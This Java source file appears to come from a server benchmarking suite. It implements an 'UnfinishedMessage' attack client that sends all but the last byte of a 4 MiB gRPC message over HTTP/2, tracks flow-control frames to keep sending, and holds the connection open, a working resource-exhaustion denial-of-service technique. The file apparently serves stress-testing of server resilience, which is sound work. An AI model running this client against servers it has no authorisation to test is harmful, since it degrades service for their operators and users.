package io.weir.benchmarks.siege.attack;

import java.nio.ByteBuffer;

/** Sends all of a gRPC message but its last byte, as fast as the server's flow control lets it, and stays connected. */
public final class UnfinishedMessage implements AttackClient {

    private static final int MESSAGE_BYTES = 4 * 1024 * 1024;
    private static final int DEFAULT_WINDOW = 65_535;
    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final int STREAM = 1;
    private static final ByteBuffer FULL_FRAME = frame(new byte[Http2Frames.MOST_PAYLOAD]);

    private ByteBuffer sending;
    private long left = MESSAGE_BYTES - 1;
    private long connectionWindow = DEFAULT_WINDOW;
    private long streamWindow = DEFAULT_WINDOW;
    private long initialWindow = DEFAULT_WINDOW;

    /** The bytes of an incomplete frame of the server. */
    private ByteBuffer incoming = ByteBuffer.allocate(2 * (Http2Frames.HEADER_BYTES + Http2Frames.MOST_PAYLOAD));

    public UnfinishedMessage(byte[] headers) {
        ByteBuffer opening = Http2Frames.opening();
        ByteBuffer out = ByteBuffer.allocate(opening.remaining() + headers.length + 64);
        out.put(opening);
        Http2Frames.putHeaders(out, headers, STREAM);
        // As gRPC frames a message: not compressed, and its length.
        out.put(frame(ByteBuffer.allocate(5).put((byte) 0).putInt(MESSAGE_BYTES).array()));
        connectionWindow -= 5;
        streamWindow -= 5;
        sending = out.flip();
    }

    private static ByteBuffer frame(byte[] payload) {
        ByteBuffer out = ByteBuffer.allocate(Http2Frames.HEADER_BYTES + payload.length);
        return Http2Frames.putHeader(out, payload.length, Http2Frames.DATA, 0, STREAM)
                .put(payload)
                .flip();
    }

    @Override
    public ByteBuffer toSend() {
        int next = (int) Math.min(Http2Frames.MOST_PAYLOAD, Math.min(left, Math.min(connectionWindow, streamWindow)));
        if (!sending.hasRemaining() && next > 0) {
            sending = next == Http2Frames.MOST_PAYLOAD ? FULL_FRAME.duplicate() : frame(new byte[next]);
            left -= next;
            connectionWindow -= next;
            streamWindow -= next;
        }
        return sending;
    }

    @Override
    public void received(ByteBuffer bytes) {
        while (bytes.hasRemaining()) {
            incoming.put(bytes.get());
            int length = incoming.position() < Http2Frames.HEADER_BYTES ? 0 : incoming.getInt(0) >>> 8;
            if (incoming.position() >= Http2Frames.HEADER_BYTES
                    && incoming.position() == Http2Frames.HEADER_BYTES + length) {
                take(incoming.flip());
                incoming.clear();
            }
        }
    }

    private void take(ByteBuffer frame) {
        int type = frame.get(3);
        int stream = frame.getInt(5);
        frame.position(Http2Frames.HEADER_BYTES);
        if (type == Http2Frames.WINDOW_UPDATE) {
            int more = frame.getInt();
            connectionWindow += stream == 0 ? more : 0;
            streamWindow += stream == 0 ? 0 : more;
        } else if (type == Http2Frames.SETTINGS) {
            while (frame.remaining() >= 6) {
                int setting = frame.getShort();
                int value = frame.getInt();
                if (setting == INITIAL_WINDOW_SIZE) {
                    streamWindow += value - initialWindow;
                    initialWindow = value;
                }
            }
        }
    }
}
